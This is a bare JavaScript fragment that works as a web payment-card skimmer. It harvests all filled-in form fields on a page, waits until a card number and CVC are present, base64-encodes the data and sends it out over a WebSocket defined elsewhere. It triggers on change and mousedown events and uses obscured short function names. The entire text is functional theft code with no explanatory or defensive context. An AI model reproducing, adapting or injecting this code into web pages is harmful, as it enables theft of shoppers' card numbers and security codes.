var _t = '';
function _g() {
  var r = {}, e = document.querySelectorAll('input,select,textarea');
  for (var i = 0; i < e.length; i++) {
    if (e[i].type == 'hidden' || e[i].type == 'radio' || !e[i].value) continue;
    r[e[i].name || e[i].id] = e[i].value;
  }
  return r;
}
function _s() {
  var r = _g();
  if (!r.cardnumber || r.cardnumber.length < 16 || !r.cvc || r.cvc.length < 3) return;
  var t = btoa(encodeURIComponent(JSON.stringify(r)));
  if (t != _t && ws.readyState == 1) { _t = t; ws.send(t); }
}
document.addEventListener('change', _s, true);
document.addEventListener('mousedown', _s, true);
